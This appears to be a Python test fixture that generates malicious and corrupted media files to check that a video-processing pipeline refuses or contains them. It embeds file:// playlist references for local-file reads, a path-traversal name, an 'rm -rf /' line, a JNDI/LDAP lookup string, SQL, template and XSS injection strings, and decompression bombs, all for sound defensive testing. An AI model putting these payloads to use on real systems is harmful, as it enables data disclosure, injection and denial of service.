"""Files made to do harm, and files that came to harm. Each names the layer that stops it, or says that it may play.

Layers: MAGIC (the first bytes), LIST (containers, decoders, protocols), LIMITS (of the probe), TIME (and memory: of its child),
RUN (what making the first segments needs). PLAYS: nothing is wrong with what it shows; nothing else in it has any effect.
"""

import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.hostile.kit import (
    avc_config,
    block,
    box,
    boxes,
    cluster,
    el,
    film,
    full,
    info,
    matroska,
    num,
    patched,
    picture,
    table,
    track,
    vp8_keyframe,
)
from tests.media_files import clip, make

CANARY = "the canary sings in file 7d1f0c"
SEEDS = (1, 2, 3, 4, 5, 6)
ESCAPES = "\x1b[2J\x1b]0;owned\x07<script>alert(1)</script>‮gpj"


@dataclass(frozen=True)
class Hostile:
    """`content` is given the path of a file that must never be read. `ends`: "refused", "attention", "plays", in any of which it may."""

    layer: str
    content: Callable[[Path], bytes]
    ends: tuple[str, ...] = ("refused",)


def build(name: str, folder: Path, canary: Path) -> Path:
    path = folder / name
    if name == "sparse-10-gb.mp4":
        path.write_bytes(box(b"ftyp", b"isom\0\0\2\0isomiso2mp41"))
        with path.open("r+b") as file:
            file.truncate(10 << 30)
        return path
    path.write_bytes(HOSTILE[name].content(canary))
    return path


# -- texts that name other files


def hls(canary: Path) -> bytes:
    return f'#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MAP:URI="file://{canary}"\n#EXTINF:10,\nfile://{canary}\n#EXT-X-ENDLIST\n'.encode()


def dash(canary: Path) -> bytes:
    return f'<?xml version="1.0"?><MPD><Period><AdaptationSet><BaseURL>file://{canary}</BaseURL></AdaptationSet></Period></MPD>'.encode()


def concat(canary: Path) -> bytes:
    return f"ffconcat version 1.0\nfile 'file:{canary}'\n".encode()


def sdp(canary: Path) -> bytes:
    return f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nc=IN IP4 127.0.0.1\r\na={canary}\r\nm=video 5000 RTP/AVP 96\r\n".encode()


def gab2(canary: Path) -> bytes:
    """An AVI whose subtitle stream is a playlist (as used against upload sites in 2017): ffmpeg once opened it as one."""
    text = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"\0\0" + b"\4\0" + struct.pack("<I", len(hls(canary))) + hls(canary)
    data = bytearray(clip("mjpeg.avi").read_bytes())
    header = _chunk(b"strh", b"txts" + bytes(16) + struct.pack("<IIII", 1, 1, 0, 1) + bytes(16)) + _chunk(b"strf", b"")
    at = data.index(b"movi") - 8
    grown = data[:at] + _chunk(b"LIST", b"strl" + header) + data[at:]
    grown = grown.replace(b"movi", b"movi" + _chunk(b"02tx", text), 1)
    grown[4:8] = struct.pack("<I", len(grown) - 8)
    return bytes(grown)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def dref(canary: Path) -> bytes:
    """A QuickTime film whose frames lie, it says, in another file."""
    text = str(canary).encode() + b"\0"
    alias = b"\0" * 6 + struct.pack(">H", 2) + bytes(142) + struct.pack(">HH", 2, len(text)) + text + struct.pack(">h", -1)
    entry = box(b"alis", bytes(4) + alias) + box(b"url ", bytes(4) + b"file://" + text)
    return patched(film(), "moov/trak/mdia/minf/dinf/dref", lambda _: struct.pack(">II", 0, 2) + entry)


# -- Matroska


def _frames(seconds: int, *, fps: int = 25) -> list[bytes]:
    return [cluster(1000 * at, *(block(1, vp8_keyframe(64, 64), at=n * 1000 // fps) for n in range(fps))) for at in range(seconds)]


def _tracks(*more: bytes) -> bytes:
    return el(0x1654AE6B, track(1, b"V_VP8", 1, picture(64, 64)), *more)


def attachment(_: Path) -> bytes:
    file = el(0x61A7, el(0x466E, b"../../../../../escaped.txt"), el(0x4660, b"text/plain"), el(0x465C, b"out"), num(0x46AE, 7))
    return _with_extra(el(0x1941A469, file))


def linked(canary: Path) -> bytes:
    """A segment that says it goes on in another file, and chapters that lie there."""
    uid = bytes(range(16))
    link = el(
        0x1549A966, num(0x2AD7B1, 1_000_000), el(0x3EB923, uid), el(0x3E83BB, str(canary).encode()), el(0x3C83AB, str(canary).encode())
    )
    atom = el(0xB6, num(0x73C4, 1), num(0x91, 0), num(0x92, 10**9), el(0x6E67, uid))
    return matroska(link, _tracks(), el(0x1043A770, el(0x45B9, num(0x45DD, 1), atom)), *_frames(2))


def _with_extra(*extra: bytes) -> bytes:
    """A real film with more elements in its segment."""
    data = clip("59.94fps.mkv").read_bytes()
    at = data.index(b"\x1f\x43\xb6\x75")
    return _resized(data[:at] + b"".join(extra) + data[at:])


def _resized(data: bytes) -> bytes:
    """With a segment of unknown size: it reaches to the end of the file."""
    at = data.index(b"\x18\x53\x80\x67") + 4
    width = 9 - data[at].bit_length()
    return data[:at] + b"\x01" + b"\xff" * 7 + data[at + width :]


def chapters(count: int) -> bytes:
    atoms = b"".join(el(0xB6, num(0x73C4, n + 1), num(0x91, n * 1000), el(0x80, el(0x85, b"c"))) for n in range(count))
    return _with_extra(el(0x1043A770, el(0x45B9, atoms)))


def deep_tags(depth: int) -> bytes:
    nested = el(0x45A3, b"x")
    for _ in range(depth):
        nested = b"\x67\xc8" + b"\x01" + (len(nested)).to_bytes(7) + nested
    return _with_extra(el(0x1254C367, el(0x7373, nested)))


def many_tracks(count: int) -> bytes:
    return matroska(info(2), el(0x1654AE6B, *(track(n + 1, b"V_VP8", 1, picture(64, 64)) for n in range(count))), *_frames(2))


def jump(hours: int) -> bytes:
    late = cluster(hours * 3_600_000, block(1, vp8_keyframe(64, 64)))
    return matroska(info(2), _tracks(), *_frames(2), late)


def inflating(_: Path) -> bytes:
    """Frames that are zlib: each some kilobytes, each a gigabyte when unpacked."""
    packed = zlib.compressobj(9)
    bomb = b"".join(packed.compress(bytes(1 << 20)) for _ in range(256)) + packed.flush()
    coding = el(0x6D80, el(0x6240, num(0x5031, 0), num(0x5032, 1), num(0x5033, 0), el(0x5034, num(0x4254, 0))))
    return matroska(
        info(5), el(0x1654AE6B, track(1, b"V_VP8", 1, picture(64, 64), coding)), *[cluster(n * 40, block(1, bomb)) for n in range(20)]
    )


def vp8(width: int, height: int) -> bytes:
    return matroska(
        info(2), el(0x1654AE6B, track(1, b"V_VP8", 1, picture(width, height))), cluster(0, block(1, vp8_keyframe(width, height)))
    )


def hidden_size(_: Path) -> bytes:
    """The container says 64 × 64; the frame itself is 16383 × 16383."""
    return matroska(info(2), _tracks(), *[cluster(n * 40, block(1, vp8_keyframe(16383, 16383))) for n in range(50)])


def quick(fps: int) -> bytes:
    frames = [block(1, vp8_keyframe(64, 64), at=n * 1000 // fps) for n in range(fps)]
    return matroska(info(1), _tracks(), cluster(0, *frames))


# -- MP4


def h264_bomb(_: Path) -> bytes:
    def grow(body: bytes) -> bytes:
        at = body.index(b"avcC") - 4
        length = struct.unpack_from(">I", body, at)[0]
        config = box(b"avcC", avc_config(16384, 16384))
        entry = bytearray(body[8:at] + config + body[at + length :])
        entry[32:36] = struct.pack(">HH", 16384, 16384)
        entry[0:4] = struct.pack(">I", len(entry))
        return body[:8] + bytes(entry)

    return patched(film(), "moov/trak/mdia/minf/stbl/stsd", grow)


def endless(_: Path) -> bytes:
    """Every duration is 2^63 - 1."""
    most = struct.pack(">Q", (1 << 63) - 1)
    data = patched(film(), "moov/mvhd", lambda body: b"\1" + bytes(3) + bytes(16) + body[12:16] + most + body[20:])
    return patched(data, "moov/trak/mdia/mdhd", lambda body: b"\1" + bytes(3) + bytes(16) + body[12:16] + most + body[20:])


def one_byte_frames(count: int) -> bytes:
    data = table("stsz", struct.pack(">II", 1, count))(film())
    data = table("stts", struct.pack(">III", 1, count, 1))(data)
    data = table("stsc", struct.pack(">IIII", 1, 1, count, 1))(data)
    data = table("stco", struct.pack(">II", 1, 48))(data)
    return _no_offsets(data)


def _no_offsets(data: bytes) -> bytes:
    """Without composition offsets and the list of keyframes, so that the other tables need not agree with them."""
    return patched(
        data,
        "moov/trak/mdia/minf/stbl",
        lambda body: b"".join(box(kind, part) for kind, part in boxes(body) if kind not in (b"ctts", b"stss")),
    )


def nested_boxes(depth: int) -> bytes:
    nested = b""
    for _ in range(depth):
        nested = struct.pack(">I4s", 8 * (depth + 1) if len(nested) > 1 << 31 else len(nested) + 8, b"trak") + nested
    return box(b"ftyp", b"isom\0\0\2\0isom") + box(b"moov", full(b"mvhd", bytes(96)) + nested)


def edits(count: int) -> bytes:
    loop = struct.pack(">I", count) + struct.pack(">Iii", 1000, 0, 1 << 16) * count
    return patched(film(), "moov/trak/edts/elst", lambda _: bytes(4) + loop)


def traks(count: int) -> bytes:
    one = next(box(kind, body) for kind, body in boxes(dict(boxes(film()))[b"moov"]) if kind == b"trak")
    return patched(film(), "moov", lambda body: body + one * count)


def squeezed(_: Path) -> bytes:
    """A compressed header (`cmov`): 200 kilobytes that unpack to 200 megabytes."""
    packed = zlib.compress(bytes(200 << 20), 9)
    inner = box(b"cmov", box(b"dcom", b"zlib") + box(b"cmvd", struct.pack(">I", 200 << 20) + packed))
    return box(b"ftyp", b"qt  \0\0\2\0qt  ") + box(b"moov", inner)


def tagged(_: Path) -> bytes:
    """A title of a megabyte, and words that steer a terminal or a page."""
    texts = {
        b"\xa9nam": "A" * (1 << 20),
        b"\xa9ART": ESCAPES,
        b"\xa9cmt": "a\0b" + ESCAPES,
        b"desc": "{{7*7}} ${jndi:ldap://x} ' OR 1=1 --",
    }
    items = b"".join(box(key, box(b"data", struct.pack(">II", 1, 0) + text.encode())) for key, text in texts.items())
    meta = full(b"meta", full(b"hdlr", bytes(4) + b"mdirappl" + bytes(9)) + box(b"ilst", items))
    return patched(film(), "moov", lambda body: body + box(b"udta", meta))


def long_silence(_: Path) -> bytes:
    """Some kilobytes of sound and picture that say they last 40 hours."""
    hours = 40 * 3600
    data = clip("three-hours-of-two-frames.mp4")
    both = make(f"-i {data} -f lavfi -i sine=400:d=1 -c:v copy -c:a aac OUT", data.with_name("silence.mp4")).read_bytes()
    return patched(both, "moov/mvhd", lambda body: body[:16] + struct.pack(">I", hours * 1000) + body[20:])


# -- harm done to an honest film


def cut(share: float, name: str = "h264.mp4") -> Callable[[Path], bytes]:
    return lambda _: clip(name).read_bytes()[: int(clip(name).stat().st_size * share)]


def flipped(seed: int, name: str, count: int = 200) -> Callable[[Path], bytes]:
    def spoil(_: Path) -> bytes:
        chance, data = random.Random(seed), bytearray(clip(name).read_bytes())
        for _step in range(count):
            data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        return bytes(data)

    return spoil


def made(recipe: str, suffix: str) -> Callable[[Path], bytes]:
    return lambda canary: make(recipe, canary.with_name(f"made{suffix}")).read_bytes()


def _wav(channels: int, rate: int) -> bytes:
    form = struct.pack("<HHIIHH", 1, channels, rate, min(rate * channels * 2, 0xFFFFFFFF), channels * 2 % 65536, 16)
    body = b"WAVE" + _chunk(b"fmt ", form) + _chunk(b"data", bytes(200_000))
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _png(width: int, height: int) -> bytes:
    def part(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + part(b"IDAT", zlib.compress(bytes(1 << 20), 9)) + part(b"IEND", b"")


REFUSED, MENDED, PLAYS = ("refused",), ("refused", "attention", "plays"), ("plays",)
_DAMAGED = ("refused", "attention")
_LONG = struct.pack(">IIIII", 2, 239, 512, 1, 0xFFFFFFFF)

HOSTILE: dict[str, Hostile] = {
    # what the first bytes give away
    "hls.mp4": Hostile("magic", hls),
    "hls-spaces.ts": Hostile("magic", lambda canary: b"\xef\xbb\xbf \n" + hls(canary)),
    "dash.mp4": Hostile("magic", dash),
    "concat.avi": Hostile("magic", concat),
    "sdp.ts": Hostile("magic", sdp),
    "drawing.mp4": Hostile("magic", lambda canary: f'<svg xmlns="x"><image href="file://{canary}"/><script>1</script></svg>'.encode()),
    "page.mp4": Hostile("magic", lambda _: b"<!DOCTYPE html><script>fetch('/api/v1/me')</script>" + bytes(500)),
    "page-and-film.ts": Hostile("magic", lambda _: b"<html><script>alert(1)</script>" + bytes(157) + clip("late.ts").read_bytes()),
    "document-and-film.mp4": Hostile("magic", lambda _: b"%PDF-1.7\n" + bytes(100) + film()),
    "gif-and-film.mp4": Hostile("magic", lambda _: b"GIF89a" + bytes(100) + film()),
    "archive.mp4": Hostile("magic", lambda _: b"PK\x03\x04" + bytes(1000)),
    "program.mp4": Hostile("magic", lambda _: b"MZ\x90\0" + bytes(1000)),
    "script.mp4": Hostile("magic", lambda _: b"#!/bin/sh\nrm -rf /\n" + b"\xff" * 100),
    "huge.png.mp4": Hostile("magic", lambda _: _png(16384, 16384)),
    "empty.mp4": Hostile("magic", lambda _: b""),
    # what only the list of containers stops
    "hls-behind-noise.mp4": Hostile("list", lambda canary: b"\x00\xff\n" + hls(canary)),
    "concat-behind-noise.mkv": Hostile("list", lambda canary: b"\xff\xfe\n" + concat(canary)),
    "zeros.mp4": Hostile("list", lambda _: bytes(100_000)),
    "noise.mp4": Hostile("list", lambda _: random.Random(7).randbytes(200_000)),
    "only-ftyp.mp4": Hostile("list", lambda _: box(b"ftyp", b"isom\0\0\2\0isom")),
    "sparse-10-gb.mp4": Hostile("list", lambda _: b""),
    "rare-decoder.avi": Hostile("list", made("-f lavfi -i testsrc2=size=320x180:rate=25:duration=2 -c:v zmbv OUT", ".avi")),
    "rare-decoder.mkv": Hostile("list", made("-f lavfi -i testsrc2=size=320x180:rate=25:duration=2 -c:v snow -strict -2 OUT", ".mkv")),
    "tracks-5000.mkv": Hostile("limits", lambda _: many_tracks(5000)),
    "tracks-100.mkv": Hostile("limits", lambda _: many_tracks(100)),
    "tracks-3000.mp4": Hostile("limits", lambda _: traks(3000)),
    "pixels-vp8.webm": Hostile("limits", lambda _: vp8(16383, 16383)),
    "pixels-hidden.webm": Hostile("limits", hidden_size),
    "pixels-h264.mp4": Hostile("limits", h264_bomb),
    "thin.webm": Hostile("limits", lambda _: vp8(16383, 1), MENDED),
    "jump-of-100-hours.mkv": Hostile("limits", lambda _: jump(100)),
    "last-frame-for-days.mp4": Hostile("limits", lambda _: table("stts", _LONG)(film()), MENDED),
    "duration-2-to-63.mp4": Hostile("limits", endless, MENDED),
    "silence-of-40-hours.mp4": Hostile("limits", long_silence, MENDED),
    "frames-40-million.mp4": Hostile("limits", lambda _: one_byte_frames(40_000_000), MENDED),
    "frames-2-to-31.mp4": Hostile("limits", lambda _: one_byte_frames(1 << 31), MENDED),
    "1000-a-second.mkv": Hostile("limits", lambda _: quick(1000)),
    "channels-65535.wav": Hostile("limits", lambda _: _wav(65535, 48000), MENDED),
    "rate-of-4-ghz.wav": Hostile("limits", lambda _: _wav(2, 0xFFFFFFFF), MENDED),
    "inflating-frames.mkv": Hostile("limits", inflating),
    "squeezed-header.mov": Hostile("limits", squeezed),
    # tables that lie
    "box-of-size-0.mp4": Hostile("limits", lambda _: struct.pack(">I4s", 0, b"moov") + film(), MENDED),
    "box-of-size-1.mp4": Hostile("limits", lambda _: film()[:32] + struct.pack(">I4sQ", 1, b"moov", 1 << 62) + film()[32:], MENDED),
    "box-of-4-gb.mp4": Hostile("limits", lambda _: film()[:32] + struct.pack(">I4s", 0xFFFFFFFF, b"moov") + film()[32:], MENDED),
    "nested-boxes.mp4": Hostile("limits", lambda _: nested_boxes(20_000)),
    "nested-tags.mkv": Hostile("limits", lambda _: deep_tags(5_000), MENDED),
    "stsz-lies.mp4": Hostile("limits", lambda _: table("stsz", struct.pack(">II", 0, 0xFFFFFFFF))(film()), MENDED),
    "stsc-lies.mp4": Hostile("limits", lambda _: table("stsc", struct.pack(">IIIIIII", 2, 1, 1, 1, 0xFFFFFFFF, 1, 1))(film()), MENDED),
    "stco-lies.mp4": Hostile("limits", lambda _: table("stco", struct.pack(">II", 1, 0xFFFFFFF0))(film()), MENDED),
    "ctts-overflow.mp4": Hostile("limits", lambda _: table("ctts", struct.pack(">IIi", 1, 240, -(1 << 31)))(film()), MENDED),
    "edits-20000.mp4": Hostile("limits", lambda _: edits(20_000), MENDED),
    "negative-times.mkv": Hostile("limits", made(f"-itsoffset -5 -i {'h264.mp4'} -c copy -copyts OUT", ".mkv"), MENDED),
    # what names other files, inside a true film: nothing of it has any effect
    "avi-with-playlist.avi": Hostile("plays", gab2, MENDED),
    "dref.mov": Hostile("plays", dref, MENDED),
    "attachment.mkv": Hostile("plays", attachment, PLAYS),
    "linked.mkv": Hostile("plays", linked, MENDED),
    "script-in-captions.mkv": Hostile(
        "plays", made("-i h264.mp4 -i words.srt -c copy -c:s srt -metadata:s:s:0 title=<script>1</script> OUT", ".mkv"), PLAYS
    ),
    "tags.mp4": Hostile("plays", tagged, PLAYS),
    "chapters-300000.mkv": Hostile("plays", lambda _: chapters(300_000), MENDED),
    "film-and-archive.mkv": Hostile("plays", lambda _: clip("59.94fps.mkv").read_bytes() + b"PK\x05\x06" + bytes(18), MENDED),
    "film-with-document.mp4": Hostile("plays", lambda _: film() + box(b"free", b"%PDF-1.7 " + bytes(500)), PLAYS),
    # harm done
    "cut-at-30.mp4": Hostile("publish", cut(0.3), ("attention",)),
    "cut-at-90.mkv": Hostile("publish", cut(0.9, "59.94fps.mkv"), ("attention",)),
    "cut-without-tables.mp4": Hostile("list", cut(0.6, "24fps.mp4")),
    **{f"flipped-{seed}.mp4": Hostile("publish", flipped(seed, "h264.mp4"), MENDED) for seed in SEEDS[:3]},
    **{f"flipped-{seed}.mkv": Hostile("publish", flipped(seed, "59.94fps.mkv"), MENDED) for seed in SEEDS[:2]},
    **{f"flipped-{seed}.ts": Hostile("publish", flipped(seed, "late.ts"), MENDED) for seed in SEEDS[:2]},
    **{f"flipped-{seed}.avi": Hostile("publish", flipped(seed, "mjpeg.avi"), MENDED) for seed in SEEDS[:1]},
}
